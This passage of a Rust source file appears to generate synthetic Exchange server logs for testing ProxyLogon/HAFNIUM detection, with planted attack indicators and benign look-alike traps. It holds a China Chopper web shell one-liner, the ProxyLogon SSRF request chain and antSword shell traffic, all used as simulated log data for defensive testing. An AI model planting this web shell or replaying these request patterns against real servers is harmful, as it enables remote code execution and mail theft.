//! The story on top of the benign traffic: the planted indicators of a HAFNIUM-style compromise
//! (only when `compromised`) and the benign look-alikes ("traps") that every server gets.
//!
//! Times are fixed relative to the attack day (2021-03-03 when the span covers it), following the
//! HelseCERT incident: the ProxyLogon chain at 06:49, the OAB virtual directory rewritten at
//! 06:49:53, web shell use over the next days. Traps are spread over the whole span.

use super::fmt::us_datetime;
use super::population::BROWSER_UAS;
use super::rng::Rng;
use super::traffic::{ARCHIVE_UA, Cookie, IisItem, Protocol, Request};
use super::{Expect, Server};
use std::borrow::Cow;

/// A request through the front end: its HttpProxy row and, optionally, its IIS lines.
#[derive(Clone, Debug)]
pub(crate) struct ProxySpecial {
    pub req: Request<'static>,
    pub proxy: Expect,
    /// Front-end IIS line (W3SVC1), if written.
    pub iis: Option<Expect>,
    /// Back-end IIS line (W3SVC2), if written.
    pub backend: Option<Expect>,
    pub note: String,
    /// Note for the IIS lines when they tell another story than the HttpProxy row.
    pub iis_note: Option<String>,
}

/// A line in an IIS log that no HttpProxy row belongs to.
#[derive(Clone, Debug)]
pub(crate) struct IisSpecial {
    pub site: u8,
    pub item: IisItem<'static>,
    pub expect: Expect,
    pub note: String,
}

/// An ECP Server log line; `data` is the EventData value before CSV quoting.
#[derive(Clone, Debug)]
pub(crate) struct EcpSpecial {
    pub t: i64,
    pub data: String,
    pub expect: Expect,
    pub note: String,
}

/// An OABGeneratorLog line.
#[derive(Clone, Debug)]
pub(crate) struct OabSpecial {
    pub t: i64,
    pub level: &'static str,
    pub message: String,
    pub expect: Expect,
    pub note: String,
}

/// An Application event.
#[derive(Clone, Debug)]
pub(crate) struct EventSpecial {
    pub t: i64,
    pub provider: &'static str,
    pub event_id: u16,
    pub level: u8,
    pub task: u16,
    pub text: String,
    pub expect: Expect,
    pub note: String,
}

/// All scenario lines, each list sorted by time.
#[derive(Clone, Debug, Default)]
pub(crate) struct Scenario {
    pub proxy: Vec<ProxySpecial>,
    pub iis: Vec<IisSpecial>,
    pub ecp: Vec<EcpSpecial>,
    pub oab: Vec<OabSpecial>,
    pub events: Vec<EventSpecial>,
}

fn o(s: impl Into<String>) -> Cow<'static, str> {
    Cow::Owned(s.into())
}

fn st(s: &'static str) -> Cow<'static, str> {
    Cow::Borrowed(s)
}

/// The attacker of HelseCERT's incident.
const ATTACKER_IP: &str = "130.255.189.21";
const PYTHON_UA: &str = "python-requests/2.25.1";
const ESC_UA: &str = "ExchangeServicesClient/0.0.0.0";
const ANTSWORD_UA: &str = "antSword/v2.1";
const NMAP_UA: &str = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";
const ZGRAB_UA: &str = "Mozilla/5.0 zgrab/0.x";
const CHROME_UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.150 Safari/537.36";
/// The China Chopper key of HelseCERT's OAB shell.
pub(crate) const CHOPPER_KEY: &str = "klk123456";
/// The OAB virtual directory id in HelseCERT's ECP log.
pub(crate) const OAB_VDIR_ID: &str = "982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3";

pub(crate) fn chopper(key: &str) -> String {
    format!(
        r#"<script language="JScript" runat="server">function Page_Load(){{eval(Request["{key}"],"unsafe");}}</script>"#
    )
}

impl Scenario {
    pub(crate) fn build(s: &Server) -> Scenario {
        let mut rng = Rng::stream(s.spec.seed, &[3]);
        let days = i64::from(s.spec.days);
        let day = |offset: i64| -> u32 { (i64::from(s.attack_day) + offset).clamp(0, days - 1) as u32 };
        let hms = |h: i64, m: i64, sec: i64, ms: i64| ((h * 60 + m) * 60 + sec) * 1000 + ms;
        let at = |offset: i64, h, m, sec, ms| s.day_start(day(offset)) + hms(h, m, sec, ms);
        let trap_at = |k: i64, h, m, sec, ms| s.day_start((k % days) as u32) + hms(h, m, sec, ms);
        let compromised = s.spec.compromised;
        let mut sc = Scenario::default();
        let fqdn = s.fqdn.clone();
        let other = s.servers[1].fqdn.clone();
        let machine = format!("{}\\{}$", s.netbios.to_ascii_uppercase(), s.host);
        let canary = rng.chars(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-", 75) + ".";
        let user = &s.users[10 % s.users.len()];

        // ProxyLogon: an anonymous request to a static ECP resource whose X-BEResource cookie
        // makes the front end proxy to an attacker-chosen back-end URL.
        let ssrf = |rng: &mut Rng,
                    t: i64,
                    p: Protocol,
                    host: &str,
                    stem: &'static str,
                    ua: &'static str,
                    ip: &str,
                    target: &str,
                    status: u16| {
            let mut r = Request::blank(t, rng.guid(), p);
            r.host = o(host);
            r.stem = st(stem);
            r.method = st("POST");
            r.ua = st(ua);
            r.ip = o(ip);
            r.anchor = [st("ServerInfo~"), o(format!("a]@{fqdn}:444{target}#"))];
            r.routing_hint = st("X-BEResource-Cookie");
            r.status = status;
            r.be_status = status;
            r.target = Some(0);
            let (path, query) = target.split_once('?').unwrap_or((target, ""));
            r.be_stem = o(path);
            r.be_query = o(query);
            r.be_user = o(machine.clone());
            r.total_ms = rng.range(40, 400) as u32;
            r.be_ms = r.total_ms - 20;
            r.req_bytes = rng.range(200, 2000) as u32;
            r.resp_bytes = rng.range(100, 8000) as u32;
            r
        };

        if compromised {
            let ddi = |call: &str, schema: &str| {
                format!("/ecp/DDI/DDIService.svc/{call}?msExchEcpCanary={canary}&schema={schema}")
            };
            let chain: [(i64, &str, &'static str, String, u16, Expect, &str); 8] = [
                (
                    hms(6, 49, 42, 162),
                    &s.mail_host,
                    ESC_UA,
                    "/autodiscover/autodiscover.xml?".into(),
                    200,
                    Expect::Trap,
                    "ProxyLogon step 1: SSRF to /autodiscover/autodiscover.xml (ExchangeServicesClient/0.0.0.0); Test-ProxyLogon excludes autodiscover targets",
                ),
                (
                    hms(6, 49, 43, 699),
                    &s.mail_host,
                    PYTHON_UA,
                    "/mapi/emsmdb/?".into(),
                    200,
                    Expect::Indicator,
                    "ProxyLogon step 2: SSRF to /mapi/emsmdb (leaks the administrator's legacy DN / SID)",
                ),
                (
                    hms(6, 49, 46, 210),
                    &s.mail_host,
                    PYTHON_UA,
                    "/ecp/proxyLogon.ecp?".into(),
                    241,
                    Expect::Indicator,
                    "ProxyLogon step 3: SSRF to /ecp/proxyLogon.ecp, HTTP 241 (ECP session issued)",
                ),
                (
                    hms(6, 49, 51, 120),
                    &s.mail_host,
                    PYTHON_UA,
                    ddi("GetObject", "OABVirtualDirectory"),
                    200,
                    Expect::Indicator,
                    "ProxyLogon step 4: SSRF to DDI GetObject schema=OABVirtualDirectory",
                ),
                (
                    hms(6, 49, 53, 512),
                    &s.mail_host,
                    PYTHON_UA,
                    ddi("SetObject", "OABVirtualDirectory"),
                    200,
                    Expect::Indicator,
                    "CVE-2021-27065 via SSRF: DDI SetObject schema=OABVirtualDirectory (ExternalUrl set to a China Chopper script)",
                ),
                (
                    hms(6, 49, 56, 843),
                    &s.mail_host,
                    PYTHON_UA,
                    ddi("SetObject", "ResetOABVirtualDirectory"),
                    200,
                    Expect::Indicator,
                    "CVE-2021-27065 via SSRF: DDI SetObject schema=ResetOABVirtualDirectory (writes the web shell)",
                ),
                (
                    hms(6, 59, 18, 42),
                    &s.autodiscover_host,
                    PYTHON_UA,
                    ddi("SetObject", "OABVirtualDirectory"),
                    200,
                    Expect::Indicator,
                    "second round (HelseCERT 06:59:18): DDI SetObject schema=OABVirtualDirectory",
                ),
                (
                    hms(6, 59, 20, 359),
                    &s.autodiscover_host,
                    PYTHON_UA,
                    ddi("SetObject", "ResetOABVirtualDirectory"),
                    200,
                    Expect::Indicator,
                    "second round (HelseCERT 06:59:20): DDI SetObject schema=ResetOABVirtualDirectory",
                ),
            ];
            let d0 = s.day_start(day(0));
            for (off, host, ua, target, status, expect, note) in chain {
                let r = ssrf(&mut rng, d0 + off, Protocol::Ecp, host, "/ecp/y.js", ua, ATTACKER_IP, &target, status);
                sc.proxy.push(ProxySpecial {
                    req: r,
                    proxy: expect,
                    iis: Some(Expect::Indicator),
                    backend: Some(Expect::Indicator),
                    note: note.to_string(),
                    // The HttpProxy row is excluded by Test-ProxyLogon; its IIS lines are not.
                    iis_note: (expect == Expect::Trap).then(|| {
                        "ProxyLogon step 1 as IIS saw it: POST /ecp/y.js with ExchangeServicesClient/0.0.0.0"
                            .to_string()
                    }),
                });
            }
            // Volexity-style SSRF to EWS from a crawler-looking POST, another day, Owa folder.
            let mut r = ssrf(
                &mut rng,
                at(1, 2, 14, 9, 331),
                Protocol::Owa,
                &s.mail_host,
                "/owa/auth/Current/themes/resources/logon.css",
                "DuckDuckBot/1.0; (+http://duckduckgo.com/duckduckbot.html)",
                "104.250.191.110",
                "/EWS/Exchange.asmx?",
                200,
            );
            r.iis_encoding = true;
            sc.proxy.push(ProxySpecial {
                req: r,
                proxy: Expect::Indicator,
                iis: Some(Expect::Indicator),
                backend: Some(Expect::Context),
                note: "SSRF to EWS (mail theft) sent as a POST to /owa/auth/Current/themes/resources/logon.css with a DuckDuckBot agent (Volexity)".into(),
                iis_note: None,
            });
            // MSBLOG's second pattern: the SSRF target in the back-end cookie.
            let admin = &s.users[0];
            let mut r = Request::blank(at(1, 9, 31, 7, 604), rng.guid(), Protocol::Ews);
            r.host = o(s.mail_host.clone());
            r.stem = st("/EWS/Exchange.asmx");
            r.method = st("POST");
            r.action = st("FindItem");
            r.ua = st(PYTHON_UA);
            r.ip = st("149.28.14.163");
            r.anchor = [st("Smtp~"), o(admin.upn.clone())];
            r.routing_hint = st("BackEndCookie");
            r.cookie = Cookie::Raw(o(format!("Server~a]@{fqdn}:444/ews/exchange.asmx?#~1941962753")));
            r.be_user = o(machine.clone());
            r.total_ms = 310;
            r.be_ms = 280;
            r.req_bytes = 1620;
            r.resp_bytes = 48_211;
            sc.proxy.push(ProxySpecial {
                req: r,
                proxy: Expect::Indicator,
                iis: Some(Expect::Indicator),
                backend: Some(Expect::Indicator),
                note: "SSRF target carried in the BackEndCookie (Server~...:444/ews/exchange.asmx?#~version), ordinary AnchorMailbox".into(),
                iis_note: None,
            });
        }

        // Microsoft's nmap probe (http-vuln-cve2021-26855.nse): GET /owa/auth/x.js with
        // X-BEResource=localhost/owa/auth/logon.aspx?~3. Run by IT after 2021-03-05.
        for (k, with_iis) in [(4i64, true), (6, false)] {
            let mut r = Request::blank(at(k, 15, 20, 44, 518), rng.guid(), Protocol::Owa);
            r.host = o(s.mail_host.clone());
            r.stem = st("/owa/auth/x.js");
            r.ua = st(NMAP_UA);
            r.ip = o(s.monitor_ip.clone());
            r.anchor = [st("ServerInfo~"), st("localhost/owa/auth/logon.aspx?")];
            r.routing_hint = st("X-BEResource-Cookie");
            r.be_stem = st("/owa/auth/logon.aspx");
            r.total_ms = 31;
            r.be_ms = 18;
            r.resp_bytes = 28_412;
            let iis = (compromised && with_iis).then_some(Expect::Indicator);
            sc.proxy.push(ProxySpecial {
                req: r,
                proxy: Expect::Trap,
                iis,
                backend: None,
                note: "ServerInfo~localhost/owa/auth/logon.aspx? (Microsoft's nmap probe; excluded by Test-ProxyLogon)"
                    .into(),
                iis_note: Some(
                    "GET /owa/auth/x.js: Microsoft's nmap probe for CVE-2021-26855 (http-vuln-cve2021-26855.nse)"
                        .into(),
                ),
            });
        }

        // AnchorMailbox look-alikes that Test-ProxyLogon does not report.
        let benign_row = |rng: &mut Rng, t: i64, p: Protocol, stem: &'static str, target: usize| {
            let mut r = Request::blank(t, rng.guid(), p);
            r.host = o(s.mail_host.clone());
            r.stem = st(stem);
            r.method = st("POST");
            r.ua = st(user.outlook_ua);
            r.ip = o(user.ip.clone());
            r.auth = st("Negotiate");
            r.user = o(user.nt.clone());
            r.iis_user = o(user.nt.clone());
            r.be_user = o(user.nt.clone());
            r.target = Some(target);
            r.total_ms = rng.range(20, 200) as u32;
            r.be_ms = r.total_ms / 2;
            r.resp_bytes = rng.range(500, 9000) as u32;
            r
        };
        let mut r = benign_row(
            &mut rng,
            trap_at(1, 10, 2, 17, 33),
            Protocol::Autodiscover,
            "/Autodiscover/Autodiscover.xml",
            1,
        );
        r.anchor = [st("ServerInfo~"), o(format!("{other}/autodiscover/autodiscover.xml"))];
        sc.proxy.push(ProxySpecial {
            req: r,
            proxy: Expect::Trap,
            iis: Some(Expect::Context),
            backend: None,
            note: "ServerInfo~<other server>/autodiscover/autodiscover.xml (autodiscover targets are excluded)".into(),
            iis_note: None,
        });
        let mut r = benign_row(&mut rng, trap_at(3, 14, 41, 5, 902), Protocol::Ews, "/EWS/Exchange.asmx", 1);
        r.anchor = [st("ServerInfo~"), o(other.clone())];
        r.action = st("GetUserAvailability");
        sc.proxy.push(ProxySpecial {
            req: r,
            proxy: Expect::Trap,
            iis: Some(Expect::Context),
            backend: None,
            note: "ServerInfo~<other server> without a path (does not match ServerInfo~*/*)".into(),
            iis_note: None,
        });
        for (k, p, stem, status, note) in [
            (
                5i64,
                Protocol::Owa,
                "/owa/",
                200u16,
                "ServerInfo~localhost/.../SetObject?schema=ResetOABVirtualDirectory# in the Owa folder, HTTP 200: excluded as localhost, and the ResetVDir check reads only the Ecp folder",
            ),
            (
                9,
                Protocol::Ecp,
                "/ecp/",
                500,
                "ServerInfo~localhost/.../SetObject?schema=ResetOABVirtualDirectory# in the Ecp folder, HTTP 500: excluded as localhost, and the ResetVDir check needs HTTP 200",
            ),
        ] {
            let mut r = Request::blank(trap_at(k, 4, 12, 50, 77), rng.guid(), p);
            r.host = o(s.mail_host.clone());
            r.stem = st(stem);
            r.ua = st(ZGRAB_UA);
            r.ip = st("45.155.205.233");
            r.anchor =
                [st("ServerInfo~"), st("localhost/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#")];
            r.routing_hint = st("X-BEResource-Cookie");
            r.status = status;
            r.be_status = status;
            r.total_ms = 48;
            r.be_ms = 30;
            sc.proxy.push(ProxySpecial {
                req: r,
                proxy: Expect::Trap,
                iis: Some(Expect::Context),
                backend: None,
                note: note.into(),
                iis_note: None,
            });
        }
        let t = trap_at(6, 9, 5, 33, 250);
        let mut r = benign_row(&mut rng, t, Protocol::Mapi, "/mapi/emsmdb/", 1);
        r.query = [st("MailboxId="), o(user.mailbox_id.clone()), st("")];
        r.action = st("Execute");
        r.anchor = [st("MailboxGuidWithDomain~"), o(user.mailbox_id.clone())];
        r.routing_hint = st("MailboxGuidWithDomain");
        let expiry = us_datetime(s.day_start((6 % days) as u32 + 1) + 10 * 3_600_000);
        r.cookie = Cookie::Raw(o(format!("Server~{other}~1942062522~{expiry}")));
        sc.proxy.push(ProxySpecial {
            req: r,
            proxy: Expect::Trap,
            iis: Some(Expect::Context),
            backend: None,
            note: "BackEndCookie Server~<other server>~<version>~<expiry>: no '/' followed by '~' (does not match Server~*/*~*)".into(),
                iis_note: None,
        });
        // An archiving appliance using the EWS Managed API: a real ExchangeServicesClient version.
        let svc = &s.svc_archive;
        let mut r = benign_row(&mut rng, trap_at(4, 11, 11, 11, 111), Protocol::Ews, "/EWS/Exchange.asmx", 0);
        r.ua = st(ARCHIVE_UA);
        r.user = o(svc.nt.clone());
        r.iis_user = o(svc.nt.clone());
        r.be_user = o(svc.nt.clone());
        r.ip = o(s.archive_ip.clone());
        r.auth = st("Ntlm");
        r.action = st("FindItem");
        r.anchor = [st("Smtp~"), o(user.upn.clone())];
        sc.proxy.push(ProxySpecial {
            req: r,
            proxy: Expect::Context,
            iis: Some(Expect::Trap),
            backend: Some(Expect::Trap),
            note: "ExchangeServicesClient/15.00.0913.015 (a real EWS Managed API client, not the 0.0.0.0 tool agent)"
                .into(),
            iis_note: None,
        });

        // IIS-only lines.
        let iis = |t: i64,
                   method: &'static str,
                   stem: String,
                   query: String,
                   cafe: Option<[u8; 16]>,
                   ua: &str,
                   ip: &str,
                   status: u16,
                   taken: u32| IisItem {
            t,
            method: st(method),
            stem: o(stem),
            query: [o(query), st(""), st("")],
            cafe,
            encoding: false,
            port: 443,
            user: st(""),
            ip: o(ip),
            ua: o(ua),
            referer: st(""),
            status,
            substatus: 0,
            win32: 0,
            time_taken: taken,
        };
        let mut push_iis = |item: IisItem<'static>, expect: Expect, note: &str| {
            sc.iis.push(IisSpecial { site: 1, item, expect, note: note.into() });
        };
        if compromised {
            let shell = format!("/aspnet_client/system_web/{}.aspx", s.shell_name);
            let g = rng.guid();
            push_iis(
                iis(
                    at(0, 6, 47, 55, 0),
                    "POST",
                    "/ecp/default.flt".into(),
                    String::new(),
                    Some(g),
                    CHROME_UA,
                    ATTACKER_IP,
                    200,
                    187,
                ),
                Expect::Indicator,
                "POST /ecp/default.flt (Volexity / CISA exploitation path)",
            );
            let g = rng.guid();
            push_iis(
                iis(
                    at(0, 6, 50, 30, 0),
                    "GET",
                    "/ecp/DDI/DDIService.svc/GetList".into(),
                    String::new(),
                    Some(g),
                    ESC_UA,
                    ATTACKER_IP,
                    200,
                    95,
                ),
                Expect::Indicator,
                "request with the ExchangeServicesClient/0.0.0.0 tool agent",
            );
            let g = rng.guid();
            push_iis(
                iis(
                    at(1, 5, 12, 44, 0),
                    "POST",
                    "/ecp/ab1.js".into(),
                    String::new(),
                    Some(g),
                    CHROME_UA,
                    "5.254.43.18",
                    200,
                    241,
                ),
                Expect::Indicator,
                "POST /ecp/ab1.js (short .js name directly under /ecp/, Metasploit-style)",
            );
            for (m, sec, taken) in [(2i64, 13i64, 1841u32), (2, 19, 352), (3, 40, 198)] {
                let g = rng.guid();
                push_iis(
                    iis(
                        at(1, 11, m, sec, 0),
                        "POST",
                        shell.clone(),
                        String::new(),
                        Some(g),
                        ANTSWORD_UA,
                        "103.77.192.219",
                        200,
                        taken,
                    ),
                    Expect::Indicator,
                    "antSword POST to the China Chopper shell in aspnet_client\\system_web",
                );
            }
            let helse: [u8; 16] =
                [0xcd, 0xe2, 0x8f, 0xc4, 0x29, 0x9e, 0x41, 0x79, 0xb3, 0xe9, 0xde, 0x56, 0xf5, 0xc1, 0xd9, 0xee];
            let mut item = iis(
                at(2, 3, 6, 27, 0),
                "GET",
                "/owa/auth/RedirSuiteServerProxy.aspx".into(),
                String::new(),
                Some(helse),
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/65.0.2345 Safari/537.36",
                "139.162.202.236",
                200,
                133,
            );
            item.encoding = true;
            push_iis(
                item,
                Expect::Indicator,
                "HelseCERT: GET /owa/auth/RedirSuiteServerProxy.aspx (look-alike of RedirSuiteServiceProxy.aspx), 200",
            );
            let g = rng.guid();
            let mut item = iis(
                at(2, 3, 6, 31, 0),
                "POST",
                "/owa/auth/RedirSuiteServerProxy.aspx".into(),
                String::new(),
                Some(g),
                ANTSWORD_UA,
                "139.162.202.236",
                200,
                412,
            );
            item.encoding = true;
            push_iis(
                item,
                Expect::Indicator,
                "antSword POST to the OAB-dump shell /owa/auth/RedirSuiteServerProxy.aspx",
            );
            let rid = super::fmt::guid_string(&rng.guid());
            push_iis(
                iis(
                    at(2, 11, 20, 3, 0),
                    "GET",
                    "/rpc/".into(),
                    format!("&CorrelationID=<empty>;&RequestId={rid}"),
                    None,
                    ZGRAB_UA,
                    "157.230.221.198",
                    200,
                    12,
                ),
                Expect::Indicator,
                "GET /rpc/ with &CorrelationID=<empty>;&RequestId= (Praetorian PoC), 200",
            );
            let g = rng.guid();
            push_iis(
                iis(
                    at(3, 8, 15, 2, 0),
                    "GET",
                    "/aspnet_client/shell.aspx".into(),
                    String::new(),
                    Some(g),
                    "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.1",
                    "45.77.252.137",
                    404,
                    3,
                ),
                Expect::Indicator,
                "404 probe for /aspnet_client/shell.aspx (web shell scan)",
            );
        }
        let v = &s.short_version;
        let browser = BROWSER_UAS[0];
        /// (day, hour, method, stem, query, user agent, client, status, note)
        type TrapLine<'u> = (i64, i64, &'static str, String, String, &'u str, String, u16, &'static str);
        let traps: [TrapLine; 9] = [
            (
                2,
                8,
                "GET",
                "/owa/auth/Current/themes/resources/logon.css".into(),
                String::new(),
                browser,
                user.remote_ip.clone(),
                200,
                "GET (not POST) /owa/auth/Current/themes/resources/logon.css",
            ),
            (
                4,
                3,
                "GET",
                "/owa/".into(),
                String::new(),
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                "66.249.66.1".into(),
                302,
                "Googlebot GET /owa/ (crawling, no POST)",
            ),
            (
                7,
                7,
                "GET",
                "/owa/auth/logon.aspx".into(),
                format!("url=https%3a%2f%2f{}%2fowa%2f&reason=0", s.mail_host),
                browser,
                user.remote_ip.clone(),
                200,
                "legitimate /owa/auth/logon.aspx",
            ),
            (
                10,
                12,
                "GET",
                "/ecp/auth/TimeoutLogout.aspx".into(),
                String::new(),
                browser,
                user.ip.clone(),
                200,
                "legitimate /ecp/auth/TimeoutLogout.aspx",
            ),
            (
                1,
                9,
                "GET",
                format!("/ecp/{v}/scripts/common.js"),
                String::new(),
                browser,
                user.ip.clone(),
                200,
                "ECP script in the versioned folder (not a short .js directly under /ecp/)",
            ),
            (
                12,
                13,
                "GET",
                format!("/owa/auth/{v}/scripts/premium/flogon.js"),
                String::new(),
                browser,
                user.remote_ip.clone(),
                200,
                "OWA logon script in the versioned folder",
            ),
            (
                8,
                10,
                "GET",
                "/owa/healthcheck.htm".into(),
                String::new(),
                "python-requests/2.22.0",
                s.monitor_ip.clone(),
                200,
                "monitoring script with python-requests/2.22.0 (not a listed tool version)",
            ),
            (
                9,
                8,
                "POST",
                "/owa/auth.owa".into(),
                String::new(),
                browser,
                user.remote_ip.clone(),
                302,
                "legitimate OWA forms logon POST /owa/auth.owa",
            ),
            (
                11,
                16,
                "GET",
                "/owa/auth/errorFE.aspx".into(),
                "httpCode=500".into(),
                browser,
                user.remote_ip.clone(),
                200,
                "legitimate /owa/auth/errorFE.aspx",
            ),
        ];
        for (k, h, method, stem, query, ua, ip, status, note) in traps {
            let g = rng.guid();
            let mut item =
                iis(trap_at(k, h, 17, 29, 0), method, stem, query, Some(g), ua, &ip, status, rng.range(2, 60) as u32);
            item.encoding = item.stem.starts_with("/owa");
            if method == "POST" {
                item.user = o(user.nt.clone());
                item.referer = o(format!(
                    "https://{}/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2f{}%2fowa%2f",
                    s.mail_host, s.mail_host
                ));
            }
            push_iis(item, Expect::Trap, note);
        }

        sc.ecp = ecp_specials(s, &at, &trap_at, &canary, &mut rng);
        sc.oab = oab_specials(s, &at, &trap_at, &mut rng);
        sc.events = event_specials(s, &at, &trap_at);
        sc.proxy.sort_by_key(|x| x.req.t);
        sc.iis.sort_by_key(|x| x.item.t);
        sc.ecp.sort_by_key(|x| x.t);
        sc.oab.sort_by_key(|x| x.t);
        sc.events.sort_by_key(|x| x.t);
        sc
    }
}

/// `S:KEY=value`, wrapped in `'` (inner `'` doubled) when the value holds `'` or `;`.
pub(crate) fn push_pair(out: &mut String, key: &str, value: &str) {
    if !out.is_empty() {
        out.push(';');
    }
    if value.contains(['\'', ';']) {
        out.push('\'');
        out.push_str(key);
        out.push('=');
        out.push_str(&value.replace('\'', "''"));
        out.push('\'');
    } else {
        out.push_str(key);
        out.push('=');
        out.push_str(value);
    }
}

/// A full ECP.Request EventData value.
#[allow(clippy::too_many_arguments)]
pub(crate) fn ecp_event_data(
    s: &Server,
    elapsed: u64,
    sid: &str,
    cmd: &str,
    req: &str,
    url: &str,
    referrer: &str,
    ex: &str,
    act: &str,
    session: &str,
) -> String {
    let mut d = String::with_capacity(256 + cmd.len());
    push_pair(&mut d, "S:TIME", &elapsed.to_string());
    push_pair(&mut d, "S:SID", sid);
    push_pair(&mut d, "S:CMD", cmd);
    push_pair(&mut d, "S:REQID", req);
    push_pair(&mut d, "S:URL", url);
    push_pair(&mut d, "S:REFERRER", referrer);
    push_pair(&mut d, "S:EX", ex);
    push_pair(&mut d, "S:ACTID", act);
    push_pair(&mut d, "S:RS", "0");
    let [a, b, c, r] = s.version;
    push_pair(&mut d, "S:BLD", &format!("{a}.{b}.{c}.{r}"));
    push_pair(&mut d, "S:TNAME", "");
    push_pair(&mut d, "S:TID", "");
    push_pair(&mut d, "S:USID", session);
    push_pair(&mut d, "S:EDOID", "");
    push_pair(&mut d, "S:ACID", "");
    d
}

fn ecp_specials(
    s: &Server,
    at: &dyn Fn(i64, i64, i64, i64, i64) -> i64,
    trap_at: &dyn Fn(i64, i64, i64, i64, i64) -> i64,
    canary: &str,
    rng: &mut Rng,
) -> Vec<EcpSpecial> {
    let g = |rng: &mut Rng| super::fmt::guid_string(&rng.guid());
    let mut out = Vec::new();
    let be = format!("https://{}:444", s.fqdn);
    let admin_sid = s.users[0].sid.clone();
    if s.spec.compromised {
        let session = g(rng);
        let ddi = |call: &str, schema: &str| {
            format!("{be}/ecp/DDI/DDIService.svc/{call}?msExchEcpCanary={canary}&schema={schema}")
        };
        let script = chopper(CHOPPER_KEY);
        let ex_path = format!(r"{}\FrontEnd\HttpProxy\OAB", s.ex);
        let lines: [(i64, String, String, &str, Expect, &str); 5] = [
            (
                (6 * 60 + 49) * 60_000 + 51_389,
                "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null".into(),
                ddi("GetObject", "OABVirtualDirectory"),
                "",
                Expect::Context,
                "attacker reads the OAB virtual directory (HelseCERT 06:49:51)",
            ),
            (
                (6 * 60 + 49) * 60_000 + 53_772,
                format!("Set-OabVirtualDirectory.ExternalUrl='http://f/{script}'.Identity='{OAB_VDIR_ID}'"),
                ddi("SetObject", "OABVirtualDirectory"),
                "",
                Expect::Indicator,
                "Set-OabVirtualDirectory ExternalUrl = China Chopper script (HelseCERT 06:49:53, CVE-2021-27065)",
            ),
            (
                (6 * 60 + 49) * 60_000 + 58_835,
                format!("Set-OabVirtualDirectory.ExternalUrl=$null.Identity='{OAB_VDIR_ID}'"),
                ddi("SetObject", "OABVirtualDirectory"),
                "Microsoft.Exchange.Data.Directory.ADNoSuchObjectException:The object 'OAB (Default Web Site)' could not be found.",
                Expect::Context,
                "clean-up: ExternalUrl cleared (HelseCERT 06:49:58)",
            ),
            (
                (6 * 60 + 50) * 60_000 + 717,
                format!("Remove-OABVirtualDirectory.Force=$true.Identity='{}\\OAB (Default Web Site)'", s.host),
                ddi("SetObject", "ResetOABVirtualDirectory"),
                "",
                Expect::Context,
                "reset: OAB virtual directory removed (HelseCERT 06:50:00)",
            ),
            (
                (6 * 60 + 50) * 60_000 + 8_396,
                format!(
                    "New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='{}'.Role='ClientAccess'.InternalURL='https://{}/OAB'.Path='{ex_path}'",
                    s.host, s.fqdn
                ),
                ddi("SetObject", "ResetOABVirtualDirectory"),
                "",
                Expect::Context,
                "reset: OAB virtual directory recreated (HelseCERT 06:50:08)",
            ),
        ];
        for (off, cmd, url, ex, expect, note) in lines {
            let t = at(0, 0, 0, 0, 0) + off;
            let data =
                ecp_event_data(s, rng.range(30, 900), &admin_sid, &cmd, &g(rng), &url, "", ex, &g(rng), &session);
            out.push(EcpSpecial { t, data, expect, note: note.into() });
        }
    }
    let admin = &s.users[1];
    for (k, cmd, schema, note) in [
        (
            1i64,
            format!(
                "Set-OabVirtualDirectory.ExternalUrl='https://{}/OAB'.Identity='{}\\OAB (Default Web Site)'",
                s.mail_host, s.host
            ),
            "OABVirtualDirectory",
            "admin sets the OAB ExternalUrl to a plain URL (no markup)",
        ),
        (
            8,
            format!(
                "Set-OwaVirtualDirectory.InternalUrl='https://{}/owa'.Identity='{}\\owa (Default Web Site)'",
                s.internal_host, s.host
            ),
            "OWAVirtualDirectory",
            "admin sets the OWA InternalUrl to a plain URL (no markup)",
        ),
        (
            11,
            format!(
                "Set-EcpVirtualDirectory.ExternalUrl='https://{}/ecp'.Identity='{}\\ecp (Default Web Site)'",
                s.mail_host, s.host
            ),
            "ECPVirtualDirectory",
            "admin sets the ECP ExternalUrl to a plain URL (no markup)",
        ),
    ] {
        let url = format!("{be}/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={}&schema={schema}", s.canary);
        let data = ecp_event_data(
            s,
            rng.range(200, 1500),
            &admin.sid,
            &cmd,
            &g(rng),
            &url,
            &format!("https://{}/ecp/", s.mail_host),
            "",
            &g(rng),
            &g(rng),
        );
        out.push(EcpSpecial { t: trap_at(k, 13, 22, 41, 518), data, expect: Expect::Trap, note: note.into() });
    }
    out
}

fn oab_specials(
    s: &Server,
    at: &dyn Fn(i64, i64, i64, i64, i64) -> i64,
    trap_at: &dyn Fn(i64, i64, i64, i64, i64) -> i64,
    rng: &mut Rng,
) -> Vec<OabSpecial> {
    let msg = |path: &str| format!("Download failed and temporary file '{path}' needs to be removed.");
    let mut out = Vec::new();
    if s.spec.compromised {
        out.push(OabSpecial {
            t: at(0, 7, 12, 30, 418),
            level: "Warning",
            message: msg(&format!(r"{}\FrontEnd\HttpProxy\owa\auth\shell.aspx", s.ex)),
            expect: Expect::Indicator,
            note: "CVE-2021-26858: OAB download written to owa\\auth\\shell.aspx".into(),
        });
        out.push(OabSpecial {
            t: at(1, 4, 40, 10, 77),
            level: "Warning",
            message: msg(r"\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\discover.aspx"),
            expect: Expect::Indicator,
            note: "CVE-2021-26858: OAB download written over UNC to aspnet_client\\discover.aspx".into(),
        });
    }
    for (k, h) in [(2i64, 2i64), (6, 10), (12, 18)] {
        let dir = super::fmt::guid_string(&rng.guid());
        let file = super::fmt::guid_string(&rng.guid());
        out.push(OabSpecial {
            t: trap_at(k, h, 3, 12, 640),
            level: "Warning",
